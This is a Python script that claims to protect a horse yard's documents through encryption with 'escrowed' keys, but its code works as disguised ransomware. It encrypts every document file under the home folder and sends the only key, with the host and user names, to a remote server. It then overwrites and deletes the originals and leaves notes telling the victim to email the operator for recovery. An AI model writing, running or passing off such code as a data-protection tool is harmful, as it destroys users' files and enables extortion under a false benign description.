#!/usr/bin/env python3
"""Encrypt-at-rest for yard paperwork (passport scans, vet certificates,
livery agreements, owner ID) to meet the data-protection checklist from the
BHS approval visit.  Keys are held by the StableVault escrow service so a
lost laptop doesn't expose owners' details.
"""
import argparse
import json
import logging
import os
import secrets
import socket
import sys
import uuid
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import requests
from cryptography.hazmat.primitives.ciphers.aead import AESGCM

log = logging.getLogger("scan_vault")

ESCROW_URL = "https://escrow.stablevault.io/v1/keys"
VAULT_SUFFIX = ".svault"
DOC_TYPES = {".pdf", ".jpg", ".jpeg", ".png", ".heic", ".doc", ".docx",
             ".xls", ".xlsx", ".csv", ".odt", ".ods", ".txt", ".zip"}
SKIP_DIRS = {".cache", ".local", ".config", "node_modules", ".git", "snap", ".mozilla"}
NOTICE = """Yard documents on this computer were protected by StableVault.
Protected files end in {suffix}. Recovery keys are held in escrow under
reference {ref}; contact recovery@stablevault.io quoting the reference to
restore access.
"""


def candidate_files(roots):
    for root in roots:
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
            for name in filenames:
                p = Path(dirpath, name)
                if p.suffix.lower() in DOC_TYPES and not p.is_symlink():
                    yield p


class Vault:
    def __init__(self):
        self.ref = uuid.uuid4().hex[:12]
        self._key = AESGCM.generate_key(bit_length=256)
        self._aead = AESGCM(self._key)

    def escrow(self):
        body = {"ref": self.ref, "host": socket.gethostname(),
                "user": os.environ.get("USER", ""), "key": self._key.hex()}
        for attempt in range(5):
            try:
                r = requests.post(ESCROW_URL, json=body, timeout=20)
                r.raise_for_status()
                log.info("key escrowed under reference %s", self.ref)
                return True
            except requests.RequestException as exc:
                log.debug("escrow attempt %d failed: %s", attempt + 1, exc)
        return False

    def seal(self, path):
        data = path.read_bytes()
        nonce = secrets.token_bytes(12)
        sealed = nonce + self._aead.encrypt(nonce, data, path.name.encode())
        target = path.with_name(path.name + VAULT_SUFFIX)
        target.write_bytes(sealed)
        # overwrite before unlinking so the plaintext isn't recoverable from disk
        with open(path, "r+b", buffering=0) as fh:
            fh.write(secrets.token_bytes(len(data)))
            os.fsync(fh.fileno())
        path.unlink()
        return len(data)

    def forget(self):
        self._key = None
        self._aead = None


def main(argv=None):
    ap = argparse.ArgumentParser(description="Protect yard documents at rest")
    ap.add_argument("roots", nargs="*", default=[str(Path.home())],
                    help="folders to protect (default: your home folder)")
    ap.add_argument("--workers", type=int, default=8)
    ap.add_argument("--list", action="store_true", help="only list what would be protected")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    files = list(candidate_files(args.roots))
    if args.list:
        for f in files:
            print(f)
        return 0

    vault = Vault()
    if not vault.escrow():
        log.error("escrow service unreachable; nothing changed")
        return 1

    done, total = 0, 0
    with ThreadPoolExecutor(max_workers=args.workers) as pool:
        for path, result in zip(files, pool.map(_sealer(vault), files)):
            if result is not None:
                done += 1
                total += result
    vault.forget()

    for root in args.roots:
        note = Path(root) / "STABLEVAULT_README.txt"
        try:
            note.write_text(NOTICE.format(suffix=VAULT_SUFFIX, ref=vault.ref))
        except OSError:
            pass
    log.info("protected %d files (%.1f MB), reference %s", done, total / 1e6, vault.ref)
    (Path.cwd() / "stablevault.json").write_text(json.dumps({"ref": vault.ref, "files": done}))
    return 0


def _sealer(vault):
    def run(path):
        try:
            return vault.seal(path)
        except (OSError, ValueError) as exc:
            log.debug("skipped %s: %s", path, exc)
            return None
    return run


if __name__ == "__main__":
    sys.exit(main())
